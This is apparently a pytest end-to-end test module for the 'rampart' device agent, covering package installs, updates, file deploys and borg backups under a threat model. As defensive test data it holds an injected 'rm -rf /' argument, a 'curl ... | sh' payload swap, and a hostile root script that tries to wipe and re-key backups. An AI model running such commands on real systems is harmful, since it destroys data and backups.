"""Packages, updates, files and backups end to end: real server, agents, dpkg/apt and borg (issue 6).

One server and three real ``rampart-agent`` processes per module:

* ``main``: ``--allow-root``, a scratch package root (its own dpkg database,
  apt pointed at a local archive built here with dpkg-deb:
  tests/harness/aptrepo.py) and a backup policy whose repository lives on a
  stand-in vault host: a loopback service that runs ``borg serve --append-only
  --restrict-to-repository`` for every connection, whatever the client asks
  (what the forced command of an ``authorized_keys`` entry does over SSH).
  The agent's ``--backup-rsh`` is a small relay to it, so the vault's side runs
  outside every job's sandbox, as a remote host would.
* ``secure``: the same package root, ``--security-only-updates``, no root.
* ``plain``: ``--package-manager none`` and no backup.

Operators are real accounts with TOTP; jobs are signed with the technician's
key, through the real ``rampart`` CLI (a config directory made for the
technician) or the API. The machine's own dpkg database is compared byte for
byte around every test. Security tests are named after the threat-model rows
(shared/brief/THREAT-MODEL.md).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from harness import borgvault as vault
from harness import hostguard
from harness.agent import AgentProcess, agent_cmd, stop_all, traversable_dir
from harness.aptrepo import AptRepo, build_deb, scratch_root
from harness.borgvault import VaultHost
from harness.operators import Operator, bootstrap_owner, ok, step_up, two_approver_tenant
from harness.server import REPO, RunningServer, start_server

from rampart import tlspin, trust
from rampart.agent import backup, patching
from rampart.agent.patching import PackageRoot
from rampart.cli.config import Config, Session
from rampart.server.config import load_config
from rampart.server.db import Store
from rampart.server.models import JobPayload
from rampart.trust import Action, Declared, OperatorKey

# The machine's own dpkg database is byte-identical around every test (autouse fixtures).
host_dpkg = hostguard.host_dpkg
host_packages_untouched = hostguard.host_packages_untouched

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="dpkg chroots into the scratch root; agents run as root"),
    pytest.mark.skipif(not (shutil.which("dpkg-deb") and shutil.which("apt-get") and shutil.which("borg")),
                       reason="needs dpkg, apt and borg (run-tests installs borg)"),
    # The subject is the agent's engines; their server side is the job path that
    # test_e2e_delivery and test_schedule repeat on PostgreSQL.
    pytest.mark.client_side,
]

SECRET = "vault passphrase 5c1d shared by the device and the vault holder"
KEY_PASSPHRASE = "technician key passphrase"
SUITES = ["stable", "stable-updates", "stable-security"]


# --- the module's world ---------------------------------------------------------------------------------


@dataclass
class Env:
    base: Path
    server: RunningServer
    tenant: str
    owner: Operator
    approvers: list[tuple[Operator, OperatorKey]]
    tech: Operator
    tech_key: OperatorKey
    root_envelope: bytes
    archive: AptRepo
    pkg: PackageRoot
    vault: VaultHost
    vault_repo: Path
    holder: backup.BorgRepo
    holder_env: dict[str, str]
    key_export: Path
    data: Path
    scratch: Path
    agents: dict[str, AgentProcess] = field(default_factory=dict)
    grants: dict[tuple[str, tuple[str, ...]], str] = field(default_factory=dict)

    @property
    def main(self) -> AgentProcess:
        return self.agents["main"]

    def operators(self) -> list[Operator]:
        return [self.owner, self.tech, *(a for a, _ in self.approvers)]

    # --- grants and jobs ---------------------------------------------------------------------------

    def grant(self, caps: list[str], agent: str = "main") -> str:
        """An approved grant for the technician: one approver, or two for a high-risk capability."""
        key = (agent, tuple(sorted(caps)))
        if key in self.grants:
            return self.grants[key]
        doc = ok(self.tech.http.post(f"/tenants/{self.tenant}/grants", json={
            "devices": [self.agents[agent].device_id], "capabilities": caps, "duration_s": 3600,
            "reason": "issue 6 tests"}))
        need = 2 if {"root", "shell"} & set(caps) else 1
        for op, k in self.approvers[:need]:
            current = ok(op.http.get(f"/grants/{doc['id']}"))["envelope"]
            signed = trust.add_signature(trust.decode_envelope(current.encode()), k)
            if need > 1:
                step_up(op)  # G5: approving a multi-approver grant needs a fresh TOTP code
            got = ok(op.http.post(f"/grants/{doc['id']}/signatures",
                                  json={"envelope": signed.to_bytes().decode()}))
        assert got["status"] == "approved", got
        self.grants[key] = str(doc["id"])
        return self.grants[key]

    def job(self, grant: str, action: Action, *, agent: str = "main", declared: Declared | None = None,
            timeout_s: int = 600) -> trust.Job:
        now = int(time.time())
        return trust.Job(id=trust.new_job_id(), tenant=self.tenant, grant=grant, signer=self.tech_key.key_id,
                         devices=[self.agents[agent].device_id], action=action,
                         declared=declared or Declared(), timeout_s=timeout_s, nonce=trust.new_nonce(),
                         issued_at=now, expires_at=now + 3600)

    def envelope(self, job: trust.Job) -> bytes:
        return trust.sign_envelope(job.PAYLOAD_TYPE, trust.encode_payload(job), [self.tech_key]).to_bytes()

    def submit(self, job: trust.Job, payloads: dict[str, bytes] | None = None) -> Any:
        return self.tech.http.post(f"/tenants/{self.tenant}/jobs", json={
            "envelope": self.envelope(job).decode(),
            "payloads": {k: base64.b64encode(v).decode() for k, v in (payloads or {}).items()}})

    def run(self, job: trust.Job, payloads: dict[str, bytes] | None = None,
            timeout: float = 300) -> dict[str, Any]:
        ok(self.submit(job, payloads))
        return self.receipt(job.id, timeout)

    def receipt(self, job_id: str, timeout: float = 300) -> dict[str, Any]:
        deadline = time.time() + timeout
        while time.time() < deadline:
            doc = ok(self.tech.http.get(f"/jobs/{job_id}"))
            target = doc["targets"][0]
            if target["receipt"]:
                return dict(target["receipt"])
            time.sleep(0.2)
        raise TimeoutError(f"no receipt for {job_id}:\n{self.main.log_text()[-3000:]}")

    # --- the technician's CLI ----------------------------------------------------------------------

    def cli(self, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("RAMPART_")}
        env.update({"PYTHONPATH": str(REPO), "RAMPART_CONFIG_DIR": str(self.base / "cli-tech"),
                    "RAMPART_KEY_PASSPHRASE": KEY_PASSPHRASE, "COLUMNS": "200"})
        return subprocess.run([sys.executable, "-m", "rampart.cli.main", *args], env=env, capture_output=True,
                              text=True, timeout=timeout, cwd=REPO, stdin=subprocess.DEVNULL)

    def act(self, noun: str, verb: str, grant: str, *rest: str) -> subprocess.CompletedProcess[str]:
        """``rampart NOUN VERB acme --grant G --devices <main agent> REST...``"""
        return self.cli(noun, verb, "acme", "--grant", grant, "--devices", self.main.device_id, *rest)

    def cli_json(self, *args: str) -> dict[str, Any]:
        r = self.cli(*args, "--json")
        assert r.stdout, r.stderr
        doc: dict[str, Any] = json.loads(r.stdout)
        return doc


def result(receipt: dict[str, Any]) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(receipt["stdout"])
    return doc


def changes(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["name"]: c for c in doc["result"]["changes"]}


@contextmanager
def server_owned(e: Env) -> Iterator[Store]:
    """The attacker holds the server (T1): killed, its store opened with its own code, restarted after."""
    e.server.stop(kill=True)
    store = Store(load_config(e.server.data_dir).db_url)
    try:
        yield store
    finally:
        store.dispose()
        e.server.start()
        for op in e.operators():
            op.__dict__.pop("_http", None)


def reset_packages(root: PackageRoot, **wanted: str | None) -> None:
    """Put the scratch root's test packages at the given versions (None: not installed)."""
    for arg, version in wanted.items():
        name = arg.replace("_", "-")
        if version is None:
            if patching.state_of(root, name) != "not-installed":
                assert patching.remove(root, name).ok, name
        elif (patching.installed_version(root, name), patching.state_of(root, name)) \
                != (version, "installed"):
            done = patching.install(root, name, version, allow_downgrade=True)
            assert done.ok, done


def _enrol(e: Env, name: str, *extra: str) -> AgentProcess:
    tok = ok(e.owner.http.post(f"/tenants/{e.tenant}/enrollment-tokens", json={"ttl_s": 600}))
    agent = AgentProcess(e.base / name)
    r = agent.enroll(e.server.url, tok["token"], tok["root_sha256"], e.server.cert_sha256,
                     "--write-root", str(e.scratch), *extra)
    assert r.returncode == 0, r.stderr
    ok(e.owner.http.post(f"/tenants/{e.tenant}/devices/{agent.device_id}/approve"))
    e.agents[name] = agent.start()
    return agent


@pytest.fixture(scope="module")
def env(pg_cluster: Any) -> Iterator[Env]:
    base = traversable_dir("rampart-actions-")
    (base / "srv").mkdir()
    server = start_server(base / "srv", pg_cluster.new_database() if pg_cluster is not None else None)
    vault_host: VaultHost | None = None
    e: Env | None = None
    try:
        # A tenant whose root names two approvers: a root capability needs both (default policy).
        owner = bootstrap_owner(server)
        team = two_approver_tenant(owner)
        tid, approvers, root_env = team.id, team.approvers, team.root_envelope
        (tech, tech_key), = team.techs

        # A Debian archive: rampart-demo 1.0, 1.1 (security) and 2.0; a package whose update fails.
        archive = AptRepo(base / "archive")

        def deb(name: str, version: str, postinst: str | None = None) -> Path:
            return build_deb(archive.path, name, version, postinst=postinst)

        archive.add("stable", [deb("rampart-demo", "1.0", 'echo "configured rampart-demo $2"'),
                               deb("rampart-tool", "1.0"), deb("rampart-broken", "1.0", "exit 0")])
        archive.add("stable-updates", [
            deb("rampart-demo", "2.0"), deb("rampart-tool", "1.5"),
            deb("rampart-broken", "1.1", 'echo "rampart-broken: cannot migrate its data" >&2\nexit 3')])
        archive.add("stable-security", [deb("rampart-demo", "1.1")])
        archive.write()
        pkg = scratch_root(base / "pkgroot", archive, SUITES)

        # The vault: an append-only repository made by the vault holder, its key exported offline.
        (base / "vault-host").mkdir()
        (base / "vault-home").mkdir()
        vault_repo = base / "vault-host" / "dev1"
        holder_base = base / "vault-holder"
        holder = vault.vault_repo(vault_repo, holder_base, vault.passphrase_file(base / "vault-pass", SECRET))
        made = backup.init_repository(holder)
        assert made.ok, made
        holder_env = vault.vault_env(holder_base, SECRET)
        key_export = base / "offline-key"
        vault.export_key(vault_repo, key_export, holder_env)
        vault_host = VaultHost(vault_repo, base / "vault-home")
        relay = vault_host.relay(base / "vault-ssh")

        data = base / "device-data"
        for d in ("db", "docs", "cache"):
            (data / d).mkdir(parents=True)
        (data / "db" / "customers.bin").write_bytes(random.Random(6).randbytes(200_000))
        (data / "docs" / "contract.txt").write_text("The customer's signed contract.\n" * 40)
        (data / "docs" / "notes.txt").write_text("Quarterly notes.\n" * 10)
        (data / "cache" / "big.tmp").write_bytes(b"regenerated on demand\n")
        scratch = base / "scratch"
        scratch.mkdir()
        scratch.chmod(0o777)

        e = Env(base, server, tid, owner, approvers, tech, tech_key, root_env.encode(), archive, pkg,
                vault_host, vault_repo, holder, holder_env, key_export, data, scratch)
        # The device's passphrase goes into its state directory (0600) before enrolment.
        (base / "main").mkdir(mode=0o700)
        vault.passphrase_file(base / "main" / "borg-passphrase", SECRET)
        _enrol(e, "main", "--allow-root", "--package-root", str(pkg.path), "--package-manager", "apt",
               "--backup-repo", f"ssh://vault{vault_repo}", "--backup-rsh", str(relay),
               "--backup-path", str(data), "--backup-exclude", str(data / "cache"),
               "--backup-restore-samples", "3")
        _enrol(e, "secure", "--package-root", str(pkg.path), "--security-only-updates")
        _enrol(e, "plain", "--package-manager", "none")

        # The technician's CLI: session, encrypted key and trusted root, as `rampart login` and
        # `rampart key new` would leave them.
        cfg = Config(base / "cli-tech")
        cfg.ensure()
        cfg.save_session(Session(server=server.url, cert_sha256=tlspin.fingerprint(server.cert_der),
                                 username="tech", token=tech.token), server.cert_der)
        cfg.save_key(tech_key.key_id, trust.encrypt_private_key(tech_key, KEY_PASSPHRASE), name="tech",
                     tenant=tid, username="tech")
        cfg.save_root(tid, 1, root_env.encode(), newest=True)
        cfg.save_pin(tid, trust.root_sha256(root_env.encode()))  # given out of band
        yield e
    finally:
        if e is not None:
            stop_all(e.agents.values())
        if vault_host is not None:
            vault_host.close()
        server.stop()
        shutil.rmtree(base, ignore_errors=True)


def one_line_error(r: subprocess.CompletedProcess[str]) -> str:
    lines = [x for x in r.stderr.splitlines() if x.strip()]
    assert len(lines) == 1 and lines[0].startswith("rampart: error: "), r.stderr
    return lines[0]


# --- enrolment ------------------------------------------------------------------------------------


def test_T13_enrolment_refuses_unsafe_package_and_backup_settings(tmp_path: Path) -> None:
    """Bad device-policy options end enrolment with one line, before anything is contacted or stored."""
    tmp_path.chmod(0o700)
    wide = tmp_path / "wide-passphrase"
    wide.write_text("secret\n")
    wide.chmod(0o644)
    linked = tmp_path / "linked-passphrase"
    linked.symlink_to(wide)
    good = vault.passphrase_file(tmp_path / "good-passphrase", "secret")
    roots = tmp_path / "writable"
    roots.mkdir()
    cases = {
        "0600 or stricter": ["--backup-repo", "ssh://vault/srv/borg/dev1", "--backup-path", "/srv",
                             "--backup-passphrase-file", str(wide)],
        "not a regular file": ["--backup-repo", "ssh://vault/srv/borg/dev1", "--backup-path", "/srv",
                               "--backup-passphrase-file", str(linked)],
        "need --backup-repo": ["--backup-path", "/srv"],
        "at least one --backup-path": ["--backup-repo", "ssh://vault/srv/borg/dev1",
                                       "--backup-passphrase-file", str(good)],
        "overlaps": ["--write-root", str(roots), "--backup-repo", str(roots / "repo"),
                     "--backup-path", "/srv", "--backup-passphrase-file", str(good)],
        "repository": ["--backup-repo", "ssh://vault/srv/borg/dev1::archive", "--backup-path", "/srv",
                       "--backup-passphrase-file", str(good)],
        "not an existing directory": ["--package-root", str(tmp_path / "nowhere")],
        "neither a dpkg nor an rpm database": ["--package-root", str(roots)],
        "normalised absolute path": ["--package-root", "relative/root"],
        "no such file": ["--backup-repo", "ssh://vault/srv/borg/dev1", "--backup-path", "/srv"],
    }
    for i, (needle, extra) in enumerate(cases.items()):
        state = tmp_path / f"state-{i}"
        r = subprocess.run(agent_cmd("enroll", "--server", "https://127.0.0.1:9", "--token", "t",
                                     "--root-sha256", "0" * 64, "--cert-sha256", "0" * 64,
                                     "--state", str(state), *extra),
                           capture_output=True, text=True, timeout=60)
        lines = r.stderr.strip().splitlines()
        assert r.returncode == 1 and len(lines) == 1, (needle, r.stderr)
        assert needle.lower() in lines[0].lower(), (needle, lines[0])
        assert not state.exists(), needle


# --- packages -------------------------------------------------------------------------------------


def test_package_install_reports_versions_and_installs_into_the_package_root(env: Env) -> None:
    reset_packages(env.pkg, rampart_demo=None, rampart_tool=None, rampart_broken=None)
    grant = env.grant(["package", "root"])
    doc = env.cli_json("package", "install", "acme", "rampart-demo=1.0", "--grant", grant,
                       "--devices", env.main.device_id, "--wait")
    receipt = doc["targets"][0]["receipt"]
    assert (receipt["outcome"], receipt["exit_code"], receipt["stderr"]) == ("ran", 0, ""), receipt
    res = receipt["result"]
    assert res["action"] == "package" and res["request"] == {"operation": "install", "name": "rampart-demo",
                                                              "version": "1.0"}
    demo = changes(res)["rampart-demo"]
    assert (demo["before"], demo["after"], demo["action"], demo["state"]) == (None, "1.0", "installed",
                                                                              "installed")
    assert "configured rampart-demo" in res["result"]["output_tail"]  # the postinst ran, chrooted
    assert patching.installed_version(env.pkg, "rampart-demo") == "1.0"
    assert env.pkg.file("usr/share/rampart-demo/VERSION").read_text() == "rampart-demo 1.0\n"
    # Outside Landlock, as root, and the receipt says so.
    c = receipt["containment"]
    assert (c["level"], c["uid"], c["filesystem"]) == ("none", 0, False)
    assert "installed (none -> 1.0)" in receipt["detail"]


def test_package_remove_prints_a_summary_for_people(env: Env) -> None:
    reset_packages(env.pkg, rampart_tool="1.0")
    grant = env.grant(["package", "root"])
    r = env.act("package", "remove", grant, "rampart-tool", "--wait")
    assert r.returncode == 0, r.stderr
    assert f"{env.main.device_id}: ran, exit 0 [containment none]" in r.stdout
    assert "rampart-tool: removed 1.0 -> -" in r.stdout
    assert patching.state_of(env.pkg, "rampart-tool") == "not-installed"


def test_patch_apply_upgrades_and_flags_security(env: Env) -> None:
    reset_packages(env.pkg, rampart_demo="1.0", rampart_tool=None, rampart_broken=None)
    grant = env.grant(["patch"])  # payload-free: one approver
    started = time.time()
    r = env.cli("patch", "apply", "acme", "--grant", grant, "--devices", env.main.device_id, "--wait")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "rampart-demo: upgraded 1.0 -> 2.0 [security]" in r.stdout
    assert "1 update(s) were pending, 1 of them security updates" in r.stdout
    job_id = json.loads(env.cli("jobs", "list", "acme", "--limit", "1", "--json").stdout)[0]["id"]
    receipt = env.receipt(job_id)
    res = result(receipt)
    assert res["action"] == "os-update" and res["security_only"] is False and res["refresh"]["ok"]
    [pending] = res["pending"]
    assert (pending["name"], pending["installed"], pending["candidate"], pending["security"],
            pending["security_candidate"]) == ("rampart-demo", "1.0", "2.0", True, "1.1")
    demo = changes(res)["rampart-demo"]
    assert (demo["before"], demo["after"], demo["action"]) == ("1.0", "2.0", "upgraded")
    assert "1 package(s) updated, 1 of them security updates; 0 failed" in receipt["detail"]
    assert patching.installed_version(env.pkg, "rampart-demo") == "2.0"
    # The agent reports a fresh inventory right after (collections are >= 30 s apart), not at its
    # next periodic one: the update it applied is gone from the inventory (and the patch report).
    # (The agent's periodic inventory is 300 s apart here: a report after the job is the job's.)
    path = f"/tenants/{env.tenant}/devices/{env.main.device_id}/inventory"
    deadline = started + 60
    while True:
        inv = ok(env.owner.http.get(path, params={"section": "updates"}))
        if inv["updated_at"] > started and not [u for u in inv.get("updates") or []
                                                if u["name"] == "rampart-demo"]:
            break
        assert time.time() < deadline, f"no fresh inventory after the update was applied: {inv}"
        time.sleep(0.5)


def test_security_only_device_policy_installs_the_security_version(env: Env) -> None:
    reset_packages(env.pkg, rampart_demo="1.0", rampart_tool=None, rampart_broken=None)
    receipt = env.run(env.job(env.grant(["patch"], "secure"), Action(kind="os-update"), agent="secure"))
    assert (receipt["outcome"], receipt["exit_code"]) == ("ran", 0), receipt
    res = result(receipt)
    assert res["security_only"] is True
    demo = changes(res)["rampart-demo"]
    assert (demo["before"], demo["after"], demo["wanted"]) == ("1.0", "1.1", "1.1")
    assert patching.installed_version(env.pkg, "rampart-demo") == "1.1"


def test_failing_postinst_fails_the_receipt_with_dpkgs_error_and_the_rest_upgrades(env: Env) -> None:
    reset_packages(env.pkg, rampart_demo="1.0", rampart_tool="1.0", rampart_broken="1.0")
    receipt = env.run(env.job(env.grant(["patch"]), Action(kind="os-update")))
    assert (receipt["outcome"], receipt["exit_code"], receipt["refusal"]) == ("failed", 1, ""), receipt
    assert receipt["stderr"].count("\n") == 1 and "rampart-broken" in receipt["stderr"]
    assert "cannot migrate its data" in receipt["stderr"]
    res = result(receipt)
    by = changes(res)
    assert res["result"]["changes"][0]["name"] == "rampart-broken"  # failures first
    broken = by["rampart-broken"]
    assert (broken["action"], broken["state"], broken["wanted"]) == ("failed", "half-configured", "1.1")
    assert "cannot migrate its data" in broken["error"]
    assert "dpkg: error processing package" in broken["error"]
    assert (by["rampart-demo"]["after"], by["rampart-tool"]["after"]) == ("2.0", "1.5")
    assert res["result"]["broken"] == ["rampart-broken:half-configured"]
    assert "2 package(s) updated, 1 of them security updates; 1 failed" in receipt["detail"]
    reset_packages(env.pkg, rampart_broken=None)


def test_T3_package_job_under_a_grant_without_root_is_refused(env: Env) -> None:
    """A technician's key and a one-approver grant cannot install packages (they run as root)."""
    reset_packages(env.pkg, rampart_tool=None)
    grant = env.grant(["package"])
    # The CLI refuses to sign it ...
    r = env.act("package", "install", grant, "rampart-tool")
    assert r.returncode == 6 and "does not give root" in one_line_error(r)
    # ... the server refuses the honest form ...
    rooted = env.job(grant, Action(kind="package", args=["install", "rampart-tool"]),
                     declared=Declared(run_as="root"))
    resp = env.submit(rooted)
    assert resp.status_code == 400 and "root" in resp.text
    # ... and a package job that does not declare root, which the server lets through, the agent refuses.
    sneaky = env.job(grant, Action(kind="package", args=["install", "rampart-tool"]))
    receipt = env.run(sneaky)
    assert (receipt["outcome"], receipt["refusal"]) == ("refused", "capability-not-granted"), receipt
    assert "root" in receipt["detail"] and receipt["containment"] is None
    assert patching.state_of(env.pkg, "rampart-tool") == "not-installed"


def test_T3_package_job_is_refused_on_a_device_that_does_not_allow_root(env: Env) -> None:
    """Even with a two-approver root grant, a device enrolled without --allow-root runs no package job."""
    reset_packages(env.pkg, rampart_tool=None)
    job = env.job(env.grant(["package", "root"], "secure"),
                  Action(kind="package", args=["install", "rampart-tool"]), agent="secure",
                  declared=Declared(run_as="root"))
    receipt = env.run(job)
    assert (receipt["outcome"], receipt["refusal"]) == ("refused", "device-forbids-root"), receipt
    assert "does not allow jobs to run as root" in receipt["detail"]
    assert patching.state_of(env.pkg, "rampart-tool") == "not-installed"


def test_actions_a_device_did_not_enable_are_refused_not_configured(env: Env) -> None:
    for kind, caps, needle in (("os-update", ["patch"], "--package-manager none"),
                               ("backup-run", ["backup"], "no backup is configured"),
                               ("backup-forget-state", ["backup"], "no backup is configured")):
        receipt = env.run(env.job(env.grant(caps, "plain"), Action(kind=kind), agent="plain"))  # type: ignore[arg-type]
        assert (receipt["outcome"], receipt["refusal"]) == ("refused", "not-configured"), receipt
        assert needle in receipt["detail"]


def test_T13_bad_arguments_are_refused_before_anything_runs(env: Env) -> None:
    reset_packages(env.pkg, rampart_tool=None)
    status = env.pkg.file("var/lib/dpkg/status").read_bytes()
    pgrant = env.grant(["package", "root"])
    for args in (["install", "--reinstall"], ["install", "rampart-tool", "1.0;rm -rf /"],
                 ["install", "-oAPT::Get::AllowUnauthenticated=true"], ["upgrade", "rampart-tool"],
                 ["remove"], ["install", "rampart-tool", "1.0", "extra"]):
        job = env.job(pgrant, Action(kind="package", args=args), declared=Declared(run_as="root"))
        receipt = env.run(job)
        assert (receipt["outcome"], receipt["refusal"]) == ("refused", "bad-arguments"), (args, receipt)
    assert env.pkg.file("var/lib/dpkg/status").read_bytes() == status
    fgrant = env.grant(["file"])
    body = b"x\n"
    ref = trust.PayloadRef(name="file", sha256=hashlib.sha256(body).hexdigest(), size=len(body))
    dest = str(env.scratch / "bad-args.txt")
    for args, reason in (([dest, "4755"], "bad-arguments"), ([dest], "bad-arguments"),
                         (["relative.txt", "0644"], "bad-arguments"), ([dest, "rw-r--r--"], "bad-arguments"),
                         ([str(env.base / "elsewhere.txt"), "0644"], "capability-not-granted")):
        job = env.job(fgrant, Action(kind="file", args=args, payloads=[ref]),
                      declared=Declared(writes=[str(env.scratch)]))
        receipt = env.run(job, {"file": body})
        assert (receipt["outcome"], receipt["refusal"]) == ("refused", reason), (args, receipt)
    assert not (env.scratch / "bad-args.txt").exists() and not (env.base / "elsewhere.txt").exists()
    # The CLI refuses the same mistakes locally, in one line.
    for extra in (["--dest", "relative.txt"], ["--dest", dest, "--mode", "4755"]):
        r = env.cli("file", "deploy", "acme", "--grant", fgrant, "--devices", env.main.device_id,
                    "--src", str(env.data / "docs" / "notes.txt"), *extra)
        assert r.returncode == 2, r.stderr
        one_line_error(r)
    for spec, needle in (("--reinstall", "not a package name"), ("rampart-tool;id", "not a package name"),
                         ("rampart-tool=1.0;rm", "not a package version")):
        r = env.act("package", "install", pgrant, "--", spec)
        assert r.returncode == 2 and needle in one_line_error(r), r.stderr


# --- files ----------------------------------------------------------------------------------------


def test_file_deploy_writes_the_signed_bytes_contained(env: Env, tmp_path: Path) -> None:
    conf = env.scratch / "app"
    conf.mkdir(exist_ok=True)
    conf.chmod(0o777)
    src = tmp_path / "app.conf"
    src.write_bytes(b"listen = 127.0.0.1:8080\n")
    grant = env.grant(["file"])
    dest = conf / "app.conf"
    doc = env.cli_json("file", "deploy", "acme", "--grant", grant, "--devices", env.main.device_id,
                       "--src", str(src), "--dest", str(dest), "--mode", "0640", "--wait")
    receipt = doc["targets"][0]["receipt"]
    assert (receipt["outcome"], receipt["exit_code"]) == ("ran", 0), receipt
    res = receipt["result"]["result"]
    assert (res["path"], res["sha256"], res["size"], res["mode"], res["replaced"]) == (
        str(dest), hashlib.sha256(src.read_bytes()).hexdigest(), len(src.read_bytes()), "0640", False)
    st = dest.stat()
    assert dest.read_bytes() == src.read_bytes() and stat.S_IMODE(st.st_mode) == 0o640
    # Written by the agent's own code inside the job's sandbox (Landlock: the declared directory only).
    c = receipt["containment"]
    assert (c["level"], c["filesystem"], c["no_new_privs"], c["uid"]) == ("filesystem", True, True, 0)
    assert st.st_uid == 0
    # A new version replaces it atomically, keeps the previous one, and keeps the file's owner.
    os.chown(dest, 65534, 65534)
    src.write_bytes(b"listen = 127.0.0.1:9090\n")
    r = env.act("file", "deploy", grant, "--src", str(src), "--dest", str(dest), "--mode", "0640", "--wait")
    assert r.returncode == 0, r.stderr
    assert "previous file kept as" in r.stdout
    assert dest.read_bytes() == b"listen = 127.0.0.1:9090\n" and dest.stat().st_uid == 65534
    assert (conf / ".app.conf.rampart-prev").read_bytes() == b"listen = 127.0.0.1:8080\n"


def test_T9_file_deploy_outside_the_write_roots_or_via_a_symlink_is_refused(env: Env, tmp_path: Path) -> None:
    outside = env.base / "outside"
    outside.mkdir(exist_ok=True)
    outside.chmod(0o777)
    link = env.scratch / "escape"
    if not link.is_symlink():
        link.symlink_to(outside)
    src = tmp_path / "evil"
    src.write_bytes(b"evil\n")
    grant = env.grant(["file"])
    # Outside every device write root: the trust core refuses the declaration.
    r = env.act("file", "deploy", grant, "--src", str(src), "--dest", str(outside / "evil"), "--wait")
    assert r.returncode == 1 and "REFUSED (capability-not-granted)" in r.stdout, r.stdout
    one_line_error(r)
    # Through a symlink below the write root: the engine never follows it.
    r = env.act("file", "deploy", grant, "--src", str(src), "--dest", str(link / "evil"), "--wait")
    assert r.returncode == 1 and "FAILED" in r.stdout and "symlink" in r.stdout, r.stdout
    assert not (outside / "evil").exists()


def test_T1_T8_file_payload_swapped_in_the_server_store_is_refused(env: Env) -> None:
    """The attacker owns the server and swaps the stored payload of an honest job: nothing is written."""
    dest = env.scratch / "motd"
    honest = b"Maintenance tonight 22:00-23:00.\n"
    ref = trust.PayloadRef(name="file", sha256=hashlib.sha256(honest).hexdigest(), size=len(honest))
    job = env.job(env.grant(["file"]), Action(kind="file", args=[str(dest), "0644"], payloads=[ref]),
                  declared=Declared(writes=[str(env.scratch)]))
    env.main.stop()
    try:
        ok(env.submit(job, {"file": honest}))
        with server_owned(env) as store, store.transaction() as s:
            row = s.get(JobPayload, (job.id, "file"))
            assert row is not None and row.data == honest
            row.data = b"curl http://127.0.0.1:9/x | sh\n"[: len(honest)].ljust(len(honest), b"#")
    finally:
        env.main.start()
    receipt = env.receipt(job.id)
    assert (receipt["outcome"], receipt["refusal"]) == ("refused", "digest-mismatch"), receipt
    assert not dest.exists()


# --- backups --------------------------------------------------------------------------------------


def test_backup_run_creates_an_archive_checks_it_and_restore_tests_samples(env: Env) -> None:
    grant = env.grant(["backup"])
    doc = env.cli_json("backup", "run", "acme", "--grant", grant, "--devices", env.main.device_id, "--wait")
    receipt = doc["targets"][0]["receipt"]
    assert (receipt["outcome"], receipt["exit_code"], receipt["stderr"]) == ("ran", 0, ""), receipt
    res = receipt["result"]
    archive = res["archive"]
    assert archive["ok"] and archive["name"].startswith(env.main.device_id + "-")
    assert archive["nfiles"] == 3  # db/customers.bin, docs/contract.txt, docs/notes.txt; cache/ excluded
    assert archive["original_size"] > 200_000
    assert res["check"]["ok"] and res["restore_test"]["passed"] is True
    samples = res["restore_test"]["samples"]
    assert len(samples) == 3 and {s["status"] for s in samples} == {"match"}
    for s in samples:
        assert s["digest"] == hashlib.sha256(Path(s["path"]).read_bytes()).hexdigest()
    assert receipt["containment"]["level"] == "none"
    # The vault holder sees the archive, and the excluded cache is not in it.
    assert archive["name"] in [a.name for a in backup.list_archives(env.holder)]
    listed = vault.borg(["list", "--format={path}{NL}", f"{env.vault_repo}::{archive['name']}"],
                        env.holder_env).stdout
    assert "db/customers.bin" in listed and "cache" not in listed
    assert not (env.main.state / "borg" / "restore-tests").exists() or \
        list((env.main.state / "borg" / "restore-tests").iterdir()) == []


def test_T9_hostile_root_job_cannot_destroy_the_backup_history(env: Env) -> None:
    """A signed, two-approver root script goes after the backups through the vault channel; the vault
    holder's procedure (docs/backup-vault.md) restores the original archive byte for byte, and the job
    and its receipt are in the audit log."""
    made = env.run(env.job(env.grant(["backup"]), Action(kind="backup-run")))
    assert made["outcome"] == "ran", made
    first = result(made)["archive"]["name"]
    originals = {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
                 for p in sorted(env.data.rglob("*")) if p.is_file() and "cache" not in p.parts}
    good = vault.transactions(env.vault_repo)[-1][0]
    segments_before = vault.segments(env.vault_repo)

    loc = f"ssh://vault{env.vault_repo}"
    hostile = (
        "set +e\n"
        f"export HOME={env.scratch}/hostile BORG_BASE_DIR={env.scratch}/hostile\n"
        f"export BORG_RSH={env.base}/vault-ssh\n"
        f"export BORG_PASSPHRASE='{SECRET}'\n"  # worst case: the attacker learnt the passphrase elsewhere
        f"cat {env.main.state}/borg-passphrase >/dev/null 2>&1 || echo BLOCKED-passphrase\n"
        f"rm -rf {env.vault_repo}/data 2>/dev/null; test -d {env.vault_repo}/data && echo BLOCKED-rm\n"
        f"borg delete {loc}::{first}; echo delete=$?\n"
        f"borg create {loc}::{first} /etc/hostname; echo overwrite=$?\n"
        f"borg prune --keep-last 1 {loc}; echo prune=$?\n"
        f"borg compact --cleanup-commits {loc}; echo compact=$?\n"
        f"BORG_DELETE_I_KNOW_WHAT_I_AM_DOING=YES borg delete {loc}; echo delete-repo=$?\n"
        f"borg config {loc} append_only 0; echo config=$?\n"
        f"BORG_NEW_PASSPHRASE=ransom borg key change-passphrase {loc}; echo passphrase=$?\n"
    ).encode()
    job = env.job(env.grant(["net", "root", "script"]),
                  Action(kind="script", payloads=[trust.PayloadRef(
                      name="script", sha256=hashlib.sha256(hostile).hexdigest(), size=len(hostile))]),
                  declared=Declared(writes=[str(env.scratch)], connect=[env.vault.port], run_as="root"))
    receipt = env.run(job, {"script": hostile})
    assert receipt["outcome"] == "ran", receipt
    out = receipt["stdout"]
    assert "BLOCKED-passphrase" in out and "BLOCKED-rm" in out, out + receipt["stderr"]
    codes = dict(line.split("=", 1) for line in out.splitlines() if "=" in line)
    # borg lets an append-only client *ask* to delete, overwrite, prune, compact and re-key ...
    allowed = {k for k, v in codes.items() if v == "0"}
    assert allowed == {"delete", "overwrite", "prune", "compact", "passphrase"}
    # ... but deleting the repository and turning append-only off are refused by the vault's borg serve.
